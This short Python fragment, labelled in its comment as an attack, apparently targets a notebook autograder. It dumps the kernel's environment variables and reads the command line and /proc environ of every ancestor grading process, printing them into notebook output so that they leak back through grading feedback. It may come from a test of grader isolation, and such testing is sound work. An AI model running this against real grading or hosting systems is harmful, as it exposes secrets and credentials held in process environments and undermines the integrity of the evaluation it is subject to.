# Attack: print the kernel's environment, and the environment and command line
# of every grading process above it, into the notebook (and so the feedback).
print("kernel environment:", dict(_os.environ))
for _pid in ancestors():
    print(_pid, "cmdline:", cmdline(_pid))
    print(_pid, "environ:", _read(f"/proc/{_pid}/environ").replace(b"\0", b" ").decode(errors="replace"))
